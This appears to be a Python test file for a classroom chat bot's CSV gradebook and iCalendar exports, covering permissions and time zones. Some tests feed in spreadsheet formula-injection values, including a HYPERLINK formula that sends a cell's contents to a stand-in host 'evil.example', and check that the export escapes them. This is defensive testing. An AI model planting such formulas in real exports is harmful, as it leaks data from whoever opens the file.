"""Exports: the CSV gradebook and the iCalendar of due dates, sent to the caller's DM."""

import csv
import io
from datetime import datetime, timezone

import icalendar

from .fakes import ADMIN_A, ADMIN_B, LEARNER_A, LEARNER_B, SHARED_DM, TEACHER_A, classroom, texts

DUE = "2026-12-04 17:00"
DUE_UTC = datetime(2026, 12, 4, 4, 0, tzinfo=timezone.utc)
TEACHER_DM = "!teacher-dm:a.test"


async def graded_class(h):
    c = await classroom(h)
    await h.run(TEACHER_A, c.class_room, f'!assign new "Lab report" due {DUE} points 20')
    await h.run(LEARNER_A, c.work[LEARNER_A], "!submit A1 on time")
    h.clock.moment = DUE_UTC.replace(hour=6)
    await h.run(LEARNER_B, c.work[LEARNER_B], "!submit A1 late")
    await h.run(TEACHER_A, c.work[LEARNER_B], "!grade A1 17/20 Good.")
    return c


def rows_of(message):
    data, filename, mimetype = message.file
    assert mimetype == "text/csv"
    return filename, list(csv.reader(io.StringIO(data.decode("utf-8"))))


async def test_teacher_exports_grades_to_their_dm(harness):
    h = harness
    c = await graded_class(h)
    await h.repos.rooms.add(TEACHER_DM, "dm", None, TEACHER_A, h.clock.now())
    out = await h.run(TEACHER_A, c.staff_room, "!export grades")
    sent = [m for m in out if m.file]
    assert len(sent) == 1 and sent[0].room_id == TEACHER_DM
    filename, rows = rows_of(sent[0])
    assert filename == "grades-PHYS12.csv"
    assert rows[0] == ["learner", "school", "A1 Lab report score", "A1 out of", "A1 late"]
    # user ids start with @, which a spreadsheet reads as a formula: every such cell starts with an apostrophe
    assert rows[1:] == [["'" + LEARNER_A, "Kura A", "", "20", "no"], ["'" + LEARNER_B, "Kura B", "17", "20", "yes"]]
    assert texts(out, c.staff_room) == "I've sent grades-PHYS12.csv to our direct message."

    out = await h.run(TEACHER_A, c.class_room, "!export grades b.test")
    filename, rows = rows_of(next(m for m in out if m.file))
    assert filename == "grades-PHYS12-b.test.csv" and [r[0] for r in rows[1:]] == ["'" + LEARNER_B]
    assert not [m for m in out if m.file and m.room_id == c.class_room]


async def test_without_a_dm_one_is_started_and_recorded(harness):
    h = harness
    c = await graded_class(h)
    out = await h.run(TEACHER_A, c.staff_room, "!export grades")
    create = [a for a in h.matrix.actions if a[0] == "create" and a[2].get("direct")]
    assert len(create) == 1 and create[0][2]["invite"] == [TEACHER_A]
    dm = await h.repos.rooms.dm_of(TEACHER_A)
    assert dm.room_id == create[0][1] and dm.kind == "dm"
    assert next(m for m in out if m.file).room_id == dm.room_id
    assert "a new direct message with you" in texts(out, c.staff_room)


async def test_in_a_dm_the_file_is_the_reply(harness):
    h = harness
    await graded_class(h)
    out = await h.run(TEACHER_A, SHARED_DM, "!export grades PHYS12")
    assert len(out) == 1 and out[0].room_id == SHARED_DM and out[0].file and out[0].reply_to


async def test_a_school_admin_exports_only_their_own_schools_learners(harness):
    h = harness
    c = await graded_class(h)
    out = await h.run(ADMIN_B, SHARED_DM, "!export grades PHYS12")
    _, rows = rows_of(out[0])
    assert [r[0] for r in rows[1:]] == ["'" + LEARNER_B] and rows[1][2] == "17"
    reply = await h.say(ADMIN_B, SHARED_DM, "!export grades PHYS12 a.test")
    assert "can export your own school's learners (b.test), not those of a.test" in reply
    out = await h.run(ADMIN_A, SHARED_DM, "!export grades PHYS12")
    _, rows = rows_of(out[0])
    assert [r[0] for r in rows[1:]] == ["'" + LEARNER_A]


async def test_learners_and_strangers_cannot_export_grades(harness):
    h = harness
    c = await graded_class(h)
    reply = await h.say(LEARNER_A, c.class_room, "!export grades")
    assert reply == "Only a teacher of Physics 12, or a school admin for their own school's learners, can export its grades."
    assert "Only a teacher" in await h.say("@someone:a.test", SHARED_DM, "!export grades PHYS12")
    assert "name the class by its code" in await h.say(ADMIN_A, SHARED_DM, "!export grades")
    assert "no learners from c.test" in await h.say(TEACHER_A, SHARED_DM, "!export grades PHYS12 c.test")
    reply = await h.say(TEACHER_A, SHARED_DM, "!export grades PHYS12 not_a_server!")
    assert "“not_a_server!” is not a homeserver name" in reply and "Usage: `!export grades [<server>]`" in reply


async def test_names_cannot_smuggle_spreadsheet_formulas(harness):
    h = harness
    c = await graded_class(h)
    await h.run("@it:a.test", SHARED_DM, '!school add b.test "=HYPERLINK(1)"')
    out = await h.run(TEACHER_A, SHARED_DM, "!export grades PHYS12")
    _, rows = rows_of(out[0])
    assert {r[0]: r[1] for r in rows[1:]}["'" + LEARNER_B] == "'=HYPERLINK(1)"


FORMULA_STARTS = "=+-@\t\r|%＝＋－＠"


async def test_no_cell_of_a_grades_export_can_start_a_formula_not_even_a_guests_user_id(db):
    """Issue 16, item 4: under allow_guests a learner's id is whatever their server calls them."""
    from .conftest import NOW
    from .fakes import FakeRooms, FrozenClock, Harness

    h = Harness(db, FrozenClock(NOW), FakeRooms(), allow_guests=True)
    c = await graded_class(h)
    guests = ['@=HYPERLINK("https://evil.example/?"&A1,"x"):c.test', "@+1+1:c.test", "@-2:c.test", "@@x:c.test"]
    for guest in guests:
        assert "Welcome" in await h.say(guest, SHARED_DM, "!join PHYS12") or await h.repos.classes.role_of(c.klass.id, guest)
    await h.run(TEACHER_A, c.class_room, '!assign new "-1 =SUM(A1)" due 2026-12-11 09:00 points 5')
    out = await h.run(TEACHER_A, SHARED_DM, "!export grades PHYS12")
    _, rows = rows_of(out[0])
    cells = [cell for row in rows for cell in row]
    assert {"'" + g for g in guests} <= set(r[0] for r in rows[1:])
    dangerous = [cell for cell in cells if cell.strip(" ") and cell.lstrip(" ")[0] in FORMULA_STARTS]
    assert dangerous == [], dangerous


async def test_calendar_holds_the_due_dates_in_the_class_zone(harness):
    h = harness
    c = await classroom(h)
    await h.run(TEACHER_A, c.class_room, f'!assign new "Lab report" due {DUE} points 20')
    await h.run(TEACHER_A, c.class_room, '!assign new "Essay" due 2026-12-11 09:00 publish 2026-12-02 09:00')
    await h.run(TEACHER_A, c.staff_room, f"!extend A1 {LEARNER_B} 2026-12-08 17:00")

    out = await h.run(TEACHER_A, SHARED_DM, "!export calendar PHYS12")
    data, filename, mimetype = out[0].file
    assert (filename, mimetype) == ("due-dates-PHYS12.ics", "text/calendar")
    cal = icalendar.Calendar.from_ical(data)
    assert [tz["TZID"] for tz in cal.walk("VTIMEZONE")] == ["Pacific/Auckland"]
    events = {str(e["SUMMARY"]): e for e in cal.walk("VEVENT")}
    assert set(events) == {"A1 Lab report due — Physics 12", "A2 Essay due — Physics 12"}  # teachers see scheduled ones
    start = events["A1 Lab report due — Physics 12"].decoded("DTSTART")
    assert str(start.tzinfo) == "Pacific/Auckland" and (start.hour, start.day) == (17, 4)
    assert b"DTSTART;TZID=Pacific/Auckland:20261204T170000" in data

    out = await h.run(LEARNER_B, c.class_room, "!export calendar")
    ics = next(m for m in out if m.file)
    assert ics.room_id != c.class_room
    cal = icalendar.Calendar.from_ical(ics.file[0])
    learner_events = cal.walk("VEVENT")
    assert [str(e["SUMMARY"]) for e in learner_events] == ["A1 Lab report due — Physics 12"]
    assert learner_events[0].decoded("DTSTART").day == 8  # Ben's extension
    assert "direct message" in texts(out, c.class_room)


async def test_calendar_of_a_class_without_assignments_says_so(harness):
    h = harness
    c = await classroom(h)
    assert "no assignments yet" in await h.say(LEARNER_A, c.class_room, "!export calendar")
